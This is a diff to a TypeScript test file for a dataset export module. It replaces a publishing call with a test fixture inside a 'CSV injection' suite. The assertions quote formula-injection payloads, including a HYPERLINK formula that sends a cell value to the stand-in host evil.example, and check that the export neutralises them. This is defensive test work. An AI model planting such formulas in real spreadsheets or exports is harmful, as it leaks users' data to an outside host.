@@ -5,7 +5,7 @@ import { getDataset, saveDatasetGrid } from '../db/datasets.ts';
 import { listRegions } from '../db/regions.ts';
 import { createRun } from '../db/runs.ts';
 import { demoDocument, freshDb, publishApproved } from '../db/test-fixture.ts';
-import { createDraft, publishVersion } from '../db/versions.ts';
+import { createDraft } from '../db/versions.ts';
 import { exportDataset, exportRun, neutraliseCsv } from './export.ts';
 import { importDataset } from './import.ts';
 import { buildTemplate } from './template.ts';
@@ -190,7 +190,7 @@ describe('CSV injection', () => {
     expect(data).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
     expect(data).toContain(`'@SUM(1+1)`);
     expect(cells(data).filter((c) => /^[=+@\t\r]/.test(c))).toEqual([]);
-    const pub = publishVersion(h.db, versionId, {}, 'a');
+    const pub = publishApproved(h.db, versionId);
     const run = createRun(h.db, { versionId: pub.id, year: 2024 }, 'a');
     const ranking = (await exportRun(h.db, run.id, 'csv')).body.toString('utf8');
     expect(ranking).toContain(`'@SUM(1+1)`);
